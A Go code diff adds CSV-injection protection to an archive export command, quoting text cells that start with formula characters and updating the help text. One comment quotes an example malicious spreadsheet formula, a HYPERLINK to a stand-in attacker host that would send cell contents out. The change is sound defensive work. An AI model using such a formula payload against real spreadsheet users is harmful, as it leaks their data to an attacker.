@@ -59,11 +59,34 @@ var exportColumns = []string{"site", "doc", "version", "versions", "url", "sourc
 	"source", "issuer", "doc_number", "index_number", "site_id_code", "mirror", "sha256", "fetched_at", "extractor", "path",
 	"from", "text_status", "listed_on", "text"}
 
+// row is the record as CSV cells. Every text column goes through csvText;
+// the numbers (version, versions, year) and mirror are written by us and
+// never start with a sign: a version and the count of versions are at
+// least 1, a year is 0 (undated) or a positive year. fetched_at is an
+// RFC 3339 time and starts with its year.
 func (r exportRecord) row() []string {
-	return []string{r.Site, r.Doc, strconv.Itoa(r.Version), strconv.Itoa(r.Versions), r.URL, strings.Join(r.Sources, " "),
-		r.Title, strconv.Itoa(r.Year), r.Kind, r.Published, r.Source, r.Issuer, r.DocNumber, r.IndexNumber, r.SiteIDCode,
-		strconv.FormatBool(r.Mirror), r.SHA256, r.FetchedAt.UTC().Format(time.RFC3339), r.Extractor, r.Path,
-		r.From, r.TextStatus, r.ListedOn, r.Text}
+	t := csvText
+	return []string{t(r.Site), t(r.Doc), strconv.Itoa(r.Version), strconv.Itoa(r.Versions), t(r.URL), t(strings.Join(r.Sources, " ")),
+		t(r.Title), strconv.Itoa(r.Year), t(r.Kind), t(r.Published), t(r.Source), t(r.Issuer), t(r.DocNumber), t(r.IndexNumber), t(r.SiteIDCode),
+		strconv.FormatBool(r.Mirror), t(r.SHA256), r.FetchedAt.UTC().Format(time.RFC3339), t(r.Extractor), t(r.Path),
+		t(r.From), t(r.TextStatus), t(r.ListedOn), t(r.Text)}
+}
+
+// csvText makes a text cell safe to open in a spreadsheet: a cell that
+// starts with = + - @, a tab or a carriage return would be read as a
+// formula (=HYPERLINK("http://evil.example/?x="&A1,"click") from a portal's
+// title), so it gets a single quote in front, which spreadsheets show as
+// text and do not display (OWASP's rule for CSV injection). Only CSV is
+// changed: JSON lines keep every text exactly.
+func csvText(s string) string {
+	if s == "" {
+		return s
+	}
+	switch s[0] {
+	case '=', '+', '-', '@', '\t', '\r':
+		return "'" + s
+	}
+	return s
 }
 
 func newArchiveExportCommand(g *globalOptions) *cobra.Command {
@@ -80,7 +103,10 @@ Fields: site, doc, version, versions, url, sources (every URL the document
 was found at), title, year, kind, published, source, issuer, doc_number,
 index_number, site_id_code, mirror, sha256, fetched_at, extractor, path and
 text. --bom starts CSV with a UTF-8 byte order mark, which spreadsheet
-programs need to read Chinese correctly.`,
+programs need to read Chinese correctly. In CSV, a text cell that starts with
+= + - @, a tab or a carriage return gets a single quote in front, so that a
+spreadsheet shows it as text instead of running it as a formula (a portal's
+title can be =HYPERLINK(…)); JSON lines keep every text exactly.`,
 		Args: cobraArgs(cobra.NoArgs),
 		RunE: func(cmd *cobra.Command, _ []string) error { return runArchiveExport(cmd.Context(), g, o) },
 	}
